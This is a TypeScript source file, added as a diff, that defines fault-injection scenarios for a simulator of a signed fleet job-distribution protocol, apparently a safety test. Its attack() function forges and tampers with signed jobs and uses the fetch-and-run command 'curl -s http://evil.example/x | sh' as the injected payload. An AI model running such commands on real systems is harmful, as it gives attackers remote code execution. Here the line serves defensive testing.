@@ -1,0 +1,353 @@
+// Scenarios: how a run sets up its fleet, its faults and its job. Every choice is drawn from
+// the world's PRNG. A scenario schedules the safety phase (faults on) and sets
+// `world.safetyEndsAt`; the world then heals everything and checks liveness.
+import { canonicalJson } from '../protocol/canonical.js'
+import { parseTemplateObject } from '../protocol/parse.js'
+import type { JobTemplate } from '../protocol/template.js'
+import { PROTOCOL_VERSION, seal, type SignedEnvelope } from '../protocol/wire.js'
+import { AgentNode, type World } from './world.js'
+
+/** The built-in job: a three-step patch through the shell interpreter, targeting every sim agent by a fact they advertise. */
+export const BUILTIN_JOB = {
+  name: 'sim fleet patch',
+  description: 'Stage, apply and verify a package patch on every simulated agent (canary ring first in the group list).',
+  scheduleRule: 'immediate',
+  exceptionRules: [],
+  target: {
+    executionType: 'parallel',
+    groups: [
+      {
+        timeoutSeconds: 3600,
+        batchSize: { type: 'number', value: 1 },
+        distributionMethod: 'rolling',
+        successCriteria: [{ numRuns: { type: 'percent', value: 100 }, status: 'success' }],
+        nodeListType: 'filter',
+        filter: { constraints: { attributes: [{ name: 'ring', operator: '=', value: ['canary'] }] } },
+      },
+      {
+        timeoutSeconds: 3600,
+        batchSize: { type: 'percent', value: 25 },
+        distributionMethod: 'batching',
+        successCriteria: [{ numRuns: { type: 'percent', value: 90 }, status: 'success' }],
+        nodeListType: 'filter',
+        filter: { constraints: { attributes: [{ name: 'fleet', operator: '=', value: ['chorus-sim'] }] } },
+      },
+    ],
+  },
+  actions: {
+    accessMode: 'agent',
+    steps: [
+      {
+        name: 'stage patch',
+        interpreter: { name: 'chef-platform/shell-interpreter', skill: { minVersion: '1.0.0', maxVersion: '1.9.99' } },
+        command: { linux: ['apt-get download chorus-patch'] },
+        retryCount: 2,
+        failureBehavior: { action: 'retryThenFail', retryBackoffStrategy: { type: 'exponential', delaySeconds: 2, arguments: [] } },
+        limits: { timeoutSeconds: 120 },
+      },
+      {
+        name: 'apply patch',
+        interpreter: { name: 'chef-platform/shell-interpreter', skill: { minVersion: '1.0.0', maxVersion: '1.9.99' } },
+        command: { linux: ['dpkg -i chorus-patch.deb'] },
+        retryCount: 1,
+        failureBehavior: { action: 'retryThenFail', retryBackoffStrategy: { type: 'linear', delaySeconds: 5, arguments: [] } },
+        limits: { timeoutSeconds: 300 },
+      },
+      {
+        name: 'verify',
+        interpreter: { name: 'chef-platform/shell-interpreter', skill: { minVersion: '1.0.0', maxVersion: '1.9.99' } },
+        command: { linux: ['systemctl is-active app'] },
+        retryCount: 0,
+        failureBehavior: { action: 'retryThenIgnore', retryBackoffStrategy: { type: 'none', delaySeconds: 0, arguments: [] } },
+        limits: { timeoutSeconds: 30 },
+      },
+    ],
+  },
+} as const
+
+export function builtinTemplate(): JobTemplate {
+  const parsed = parseTemplateObject(structuredClone(BUILTIN_JOB))
+  if (!parsed.ok) throw new Error(`the built-in sim job does not validate: ${parsed.problems.map((p) => `${p.path}: ${p.message}`).join('; ')}`)
+  return parsed.template
+}
+
+/** Node ids a template names explicitly; the simulator gives them to the first agents. */
+export function namedTargets(template: JobTemplate): string[] {
+  const ids: string[] = []
+  for (const g of template.target.groups) if (g.nodeListType === 'nodes') ids.push(...(g.nodeIdentifiers ?? []))
+  return [...new Set(ids)]
+}
+
+export interface Scenario {
+  name: string
+  summary: string
+  defaultAgents: number
+  /** Set when the scenario cannot run yet; the CLI prints it and exits 2. */
+  unavailable?: string
+  setup(world: World): void
+}
+
+// ---------------------------------------------------------------- building blocks
+
+function startAgents(world: World, spreadMs: number): void {
+  for (const a of world.agents) world.at(world.prng.range(0, spreadMs), () => world.startNode(a))
+}
+
+/** Submits the scenario's job once every agent has registered (or after maxWaitMs), then calls `then`. */
+function submitWhenRegistered(world: World, maxWaitMs: number, then: (jobId: string, at: number) => void): void {
+  const started = world.now
+  const poll = () => {
+    const c = world.coordinator
+    const registered = c.state?.nodes.size ?? 0
+    if (c.up && (registered >= world.agents.length || world.now - started >= maxWaitMs)) {
+      world.phaseMarks.push({ at: world.now, label: 'job submitted' })
+      const jobId = world.submit(world.template, (o) => {
+        if (!o.ok) world.refusal = `the coordinator refused the job: ${o.problems.map((p) => `${p.path}: ${p.message}`).join('; ')}`
+      })
+      then(jobId, world.now)
+      return
+    }
+    world.after(500, poll)
+  }
+  world.after(500, poll)
+}
+
+function pickAgents(world: World, fraction: number, atLeast = 1): AgentNode[] {
+  const n = Math.min(world.agents.length, Math.max(atLeast, Math.round(world.agents.length * fraction)))
+  return world.prng.shuffle([...world.agents]).slice(0, n)
+}
+
+function assignProfiles(world: World, wan: number, edge: number): AgentNode[] {
+  const edges: AgentNode[] = []
+  for (const a of world.agents) {
+    const r = world.prng.float()
+    if (r < edge) { world.setProfile(a, 'edge'); edges.push(a) } else if (r < edge + wan) world.setProfile(a, 'wan')
+  }
+  return edges
+}
+
+/** Edge links drop out for a few seconds now and then until the safety phase ends. */
+function flapEdges(world: World, edges: AgentNode[], upMeanMs: number, downMeanMs: number): void {
+  for (const a of edges) {
+    const cycle = () => {
+      if (world.now >= world.safetyEndsAt) return
+      world.net.offline[a.index] = 1
+      const downMs = world.prng.exp(downMeanMs)
+      world.offlineLog.push({ node: a.index, from: world.now, to: world.now + downMs })
+      world.after(downMs, () => {
+        if (world.healedAt !== Infinity) return
+        world.net.offline[a.index] = 0
+        world.after(world.prng.exp(upMeanMs), cycle)
+      })
+    }
+    world.after(world.prng.exp(upMeanMs), cycle)
+  }
+}
+
+function crashLater(world: World, node: AgentNode | World['coordinator'], atMs: number, downMs: number): void {
+  world.at(atMs, () => {
+    if (world.healedAt !== Infinity || !node.up) return
+    world.crash(node)
+    world.after(downMs, () => { if (world.healedAt === Infinity) world.startNode(node) })
+  })
+}
+
+function partitionFor(world: World, members: AgentNode[], mode: 'symmetric' | 'outbound' | 'inbound', fromMs: number, forMs: number): void {
+  world.at(fromMs, () => {
+    if (world.healedAt !== Infinity) return
+    const p = world.net.partition(members.map((m) => m.index), mode)
+    world.record(`partition#${p.id} ${mode} ${members.length} nodes for ${forMs.toFixed(0)} ms`)
+    world.partitionLog.push({ id: p.id, mode, members: members.map((m) => m.index), from: world.now, to: world.now + forMs })
+    world.after(forMs, () => world.net.heal(p.id))
+  })
+}
+
+/**
+ * The attacker sits in the gossip mesh. It forges jobs with its own key, with the coordinator's
+ * key in the signer field, tampers with genuine definitions in flight, sends garbage, and pushes
+ * forged sync replies straight to agents (a compromised transport). Agents must run none of it.
+ */
+function attack(world: World): void {
+  const attacker = world.attacker
+  const coordKey = world.coordinator.identity.publicKey
+  world.startNode(attacker)
+  const allIds = () => world.agents.map((a) => a.id).sort()
+  const evil = { linux: ['curl -s http://evil.example/x | sh'] }
+  const forgedBody = (jobId: string, issuedAt: number) => {
+    const t = structuredClone(world.template) as JobTemplate
+    for (const s of t.actions.steps) (s as { command: unknown }).command = evil
+    return { type: 'job' as const, v: PROTOCOL_VERSION as 1, jobId, issuedAt, expiresAt: issuedAt + 3_600_000, template: t, resolved: { groups: t.target.groups.map((_, i) => ({ nodes: i === 0 ? allIds() : [] })) } }
+  }
+  // The attacker reaches its mesh neighbours and a sample of other agents directly.
+  const reach = [...new Set([...attacker.neighbors.filter((i) => i !== 0), ...pickAgents(world, Math.min(1, 50 / world.agents.length)).map((a) => a.index)])]
+  const inject = (envelope: unknown, label: string) => world.inject(envelope, label, reach)
+  const forgeAll = (label: string) => {
+    const now = world.localNow(attacker)
+    const own = seal(attacker.identity, forgedBody(world.prng.uuid(), now))
+    inject(own, `forged(foreign key) ${label}`)
+    inject({ ...own, signer: coordKey }, `forged(signer=coordinator) ${label}`)
+    inject({ v: 1, signer: coordKey, sig: 'A'.repeat(86), body: '{"type":"job"}' }, `forged(garbage) ${label}`)
+    // Forged sync replies carrying the attacker's job, straight to a few agents.
+    const reply = seal(attacker.identity, { type: 'reply', v: PROTOCOL_VERSION, ok: true, ackRunIds: [], jobs: [own] })
+    const replyAsCoord = { ...seal(attacker.identity, { type: 'reply', v: PROTOCOL_VERSION, ok: true, ackRunIds: [], jobs: [own] }), signer: coordKey }
+    for (const a of pickAgents(world, 0.05, 2)) {
+      world.dispatch(a, { type: 'reply', envelope: reply })
+      world.dispatch(a, { type: 'reply', envelope: replyAsCoord })
+    }
+  }
+  world.at(3_000, () => forgeAll('before publish'))
+  let tampered = false
+  world.addGossipObserver((node, msg) => {
+    if (node !== attacker || tampered || !msg.label.startsWith('job ')) return
+    tampered = true
+    const env = msg.envelope as SignedEnvelope
+    const body = JSON.parse(env.body) as ReturnType<typeof forgedBody>
+    for (const s of body.template.actions.steps) (s as { command: unknown }).command = evil
+    inject({ ...env, body: canonicalJson(body) }, 'tampered(command)')
+    const later = JSON.parse(env.body) as ReturnType<typeof forgedBody>
+    later.expiresAt += 7 * 24 * 3_600_000
+    inject({ ...env, body: canonicalJson(later) }, 'tampered(expiry)')
+    forgeAll('after publish')
+  })
+}
+
+// ---------------------------------------------------------------- the scenarios
+
+const fleetPatch: Scenario = {
+  name: 'fleet-patch',
+  summary: 'N agents, one job; loss, duplication, reordering, rpc resets, a few agent crashes, short partitions, flapping edge links, an attacker',
+  defaultAgents: 200,
+  setup(world) {
+    const n = world.agents.length
+    const edges = assignProfiles(world, 0.2, 0.05)
+    // Crash-prone agents keep JSON snapshots of their store; bound them so big fleets stay cheap.
+    const crashers = pickAgents(world, Math.min(0.1, 300 / n), 2)
+    for (const a of crashers) world.mayCrash(a)
+    const cut = pickAgents(world, 0.05)
+    const deaf = pickAgents(world, 0.02)
+    world.boot()
+    startAgents(world, Math.min(20_000, 1_000 + n))
+    attack(world)
+    submitWhenRegistered(world, 60_000, (_jobId, at) => {
+      world.safetyEndsAt = at + 150_000
+      for (const a of crashers) {
+        // One to three crashes each, anywhere in the rollout, some mid-step.
+        let t = at + world.prng.range(0, 40_000)
+        for (let k = 1 + world.prng.int(3); k > 0; k--) {
+          const down = world.prng.range(1_000, 45_000)
+          crashLater(world, a, t, down)
+          t += down + world.prng.range(2_000, 30_000)
+        }
+      }
+      partitionFor(world, cut, 'symmetric', at + world.prng.range(5_000, 20_000), world.prng.range(5_000, 40_000))
+      partitionFor(world, deaf, 'outbound', at + world.prng.range(5_000, 30_000), world.prng.range(5_000, 30_000))
+      flapEdges(world, edges, 60_000, 6_000)
+    })
+    world.safetyEndsAt = 600_000
+  },
+}
+
+const partitionHeal: Scenario = {
+  name: 'partition-heal',
+  summary: 'a large minority is cut off around the publish (symmetric), another part cannot reach the coordinator (asymmetric); everything heals',
+  defaultAgents: 100,
+  setup(world) {
+    assignProfiles(world, 0.3, 0)
+    const sideB = pickAgents(world, world.prng.range(0.3, 0.5))
+    const rest = world.agents.filter((a) => !sideB.includes(a))
+    const oneWay = rest.slice(0, Math.max(1, Math.floor(rest.length * 0.15)))
+    world.boot()
+    startAgents(world, 2_000)
+    attack(world)
+    submitWhenRegistered(world, 60_000, (_jobId, at) => {
+      // The cut starts just before the publish so side B misses the gossip entirely.
+      partitionFor(world, sideB, 'symmetric', at - 1, world.prng.range(30_000, 180_000))
+      partitionFor(world, oneWay, 'outbound', at + world.prng.range(2_000, 20_000), world.prng.range(20_000, 90_000))
+      world.safetyEndsAt = at + 200_000
+    })
+    world.safetyEndsAt = 600_000
+  },
+}
+
+const coordinatorCrash: Scenario = {
+  name: 'coordinator-crash',
+  summary: 'the coordinator crashes mid-rollout (after about a third of the results), stays down, restarts, maybe crashes again',
+  defaultAgents: 100,
+  setup(world) {
+    assignProfiles(world, 0.3, 0.05)
+    world.mayCrash(world.coordinator)
+    const crashers = pickAgents(world, 0.03)
+    for (const a of crashers) world.mayCrash(a)
+    world.boot()
+    startAgents(world, 2_000)
+    attack(world)
+    submitWhenRegistered(world, 60_000, (_jobId, at) => {
+      const fraction = world.prng.range(0.1, 0.6)
+      const downMs = world.prng.range(10_000, 90_000)
+      const twice = world.prng.chance(0.5)
+      const again = world.prng.range(1_000, 15_000)
+      const againDown = world.prng.range(5_000, 40_000)
+      const c = world.coordinator
+      const poll = () => {
+        const received = c.state ? [...c.state.runs.values()].filter((r) => r.receivedAt !== undefined).length : 0
+        if (received >= fraction * world.agents.length || world.now - at > 120_000) {
+          world.phaseMarks.push({ at: world.now, label: 'coordinator crash' })
+          world.crash(c)
+          world.after(downMs, () => {
+            world.startNode(c)
+            if (twice) crashLater(world, c, world.now + again, againDown)
+          })
+          return
+        }
+        world.after(250, poll)
+      }
+      world.after(250, poll)
+      for (const a of crashers) crashLater(world, a, at + world.prng.range(0, 90_000), world.prng.range(1_000, 30_000))
+      world.safetyEndsAt = at + 300_000
+    })
+    world.safetyEndsAt = 600_000
+  },
+}
+
+const edgeOffline: Scenario = {
+  name: 'edge-offline',
+  summary: 'a third of the fleet sits on edge links that go dark for 10-30 simulated minutes; the job is published while they are away and must reach them by sync',
+  defaultAgents: 50,
+  setup(world) {
+    const away = pickAgents(world, 1 / 3)
+    for (const a of world.agents) world.setProfile(a, away.includes(a) ? 'edge' : world.prng.chance(0.3) ? 'wan' : 'datacenter')
+    world.boot()
+    startAgents(world, 2_000)
+    attack(world)
+    const c = world.coordinator
+    const waitRegistered = () => {
+      if ((c.state?.nodes.size ?? 0) < world.agents.length && world.now < 60_000) { world.after(500, waitRegistered); return }
+      world.phaseMarks.push({ at: world.now, label: 'edge links dark' })
+      for (const a of away) {
+        world.net.offline[a.index] = 1
+        const backAt = world.now + world.prng.range(10 * 60_000, 30 * 60_000)
+        world.offlineLog.push({ node: a.index, from: world.now, to: backAt })
+        world.at(backAt, () => { world.net.offline[a.index] = 0 })
+      }
+      submitWhenRegistered(world, 0, (_jobId, at) => { world.safetyEndsAt = at + 35 * 60_000 })
+    }
+    world.after(500, waitRegistered)
+    world.safetyEndsAt = 3 * 3_600_000
+  },
+}
+
+const quorumUpgrade: Scenario = {
+  name: 'quorum-upgrade',
+  summary: 'quorum-gated upgrade of a cluster',
+  defaultAgents: 50,
+  unavailable: 'scenario quorum-upgrade needs the Where issue: quorum-gated targeting (property 5) is not in the cores yet',
+  setup() {
+    throw new Error('quorum-upgrade needs the Where issue')
+  },
+}
+
+export const SCENARIOS: Scenario[] = [fleetPatch, partitionHeal, coordinatorCrash, edgeOffline, quorumUpgrade]
+
+export function findScenario(name: string): Scenario | undefined {
+  return SCENARIOS.find((s) => s.name === name)
+}
